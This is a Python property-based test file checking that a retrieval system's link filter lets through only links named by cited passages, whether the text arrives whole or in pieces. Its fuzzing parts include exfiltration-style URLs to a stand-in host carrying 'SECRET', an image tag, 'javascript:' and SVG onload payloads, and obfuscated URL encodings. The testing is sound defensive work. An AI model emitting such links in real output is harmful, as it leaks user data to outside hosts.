"""No link leaves that a cited document does not name, however it is written and however the text is cut."""

from collections.abc import Sequence

from hypothesis import example, given, settings
from hypothesis import strategies as st

from retrieval.guarding.destinations import TRAILING, Destinations, normal
from retrieval.guarding.links import LinkFilter
from tests.attacks.rendering import destinations_of, is_name
from tests.unit.test_citations import ranked

OK = "https://docs.acme.example/leave?year=2026"
PASSAGES = (
    ranked(1, f"See [the portal]({OK}) or www.acme.example/faq. Ask leave.hr.acme.com."),
    ranked(2, "https://other.example/x"),
)
ALLOWED = {normal(OK), normal("www.acme.example/faq"), normal("leave.hr.acme.com"), normal("doc/1")}


def filtered(pieces: Sequence[str], cited: Sequence[int] = (1,)) -> str:
    destinations = Destinations(PASSAGES)
    for number in cited:
        destinations.cite(number)
    links = LinkFilter(destinations)
    return "".join(map(links.feed, pieces)) + links.finish()


def forbidden(text: str) -> list[str]:
    """Destinations that are neither allowed, closing punctuation aside, nor the bare name of a host or address."""
    return [url for url in destinations_of(text) if not is_name(url) and normal(url.rstrip(TRAILING)) not in ALLOWED]


PARTS = [
    *(
        "![",
        "[",
        "]",
        "](",
        ")",
        "(",
        "<",
        ">",
        "!",
        "\\",
        "`",
        "\n",
        "\n\n",
        " ",
        ": ",
        "]:",
        "]: ",
        '"',
        "'",
        "*",
        "_",
    ),
    *("http://", "https://", "HTTPS://", "ftp://", "//", "www.", "mailto:", "javascript:alert(1)", "data:text/html,x"),
    *("evil.example", "evil.com", "a.evil.com", "evil.com/x", "evil.com/?q=SECRET", "user@evil.com", "例え.com/x"),
    *(
        "https://evil.com/?q=SECRET",
        "//evil.com/x.png",
        "http&#58;//evil.com",
        "evil%2Ecom/x",
        "10.0.0.1/x",
        "?q=SECRET",
    ),
    *(
        "ｈｔｔｐ：／／evil．com／x",
        "&#x68;ttps://evil.com/a",
        "<https://evil.com/>",
        "<a@evil.com>",
        "<!--",
        "<svg/onload=x>",
    ),
    *("<img src=https://evil.com/x>", "<a href='//evil.com'>", "<script>", "<b>", "</b>", "&", "#", "\u200b", "\u00a0"),
    *(OK, f"[portal]({OK})", f"<{OK}>", "www.acme.example/faq", "leave.hr.acme.com", "[1]", "doc/1"),
    *("https://other.example/x", "word", "The red pump", "done.It", "3.5", "请看", "- ", "> ", "1. ", "    ", "```\n"),
    *("[x]: https://evil.com\n", "[x]: /evil\n", "[x]", "[a][x]", "\r", "\t"),
]
TEXTS = st.lists(st.one_of(st.sampled_from(PARTS), st.text(max_size=3)), max_size=14).map("".join)


@settings(deadline=None, max_examples=400)
@given(TEXTS)
@example("[click](https://evil.com/?q=SECRET)")
@example("- > [x]:\n/evil 'title'\n\n[x]")
def test_what_is_rendered_leads_only_to_cited_documents(text: str) -> None:
    """Rendered with HTML and linkifying, nothing leads anywhere that no cited passage names."""
    guarded = filtered([text])
    assert forbidden(guarded) == []


@settings(deadline=None, max_examples=150)
@given(TEXTS, st.data())
def test_how_the_text_is_cut_does_not_matter(text: str, data: st.DataObject) -> None:
    """In one piece, character by character or cut anywhere, the same text leaves."""
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert filtered(pieces) == filtered([text]) == filtered(text)


@settings(deadline=None, max_examples=150)
@given(TEXTS, st.integers(0, 200))
def test_no_beginning_of_a_stream_holds_a_forbidden_link(text: str, size: int) -> None:
    """What was given so far is as harmless as the whole: a reader who renders while it comes loads nothing."""
    links = LinkFilter(Destinations(PASSAGES))
    given = "".join(map(links.feed, text[:size]))
    assert [url for url in destinations_of(given) if not is_name(url)] == []
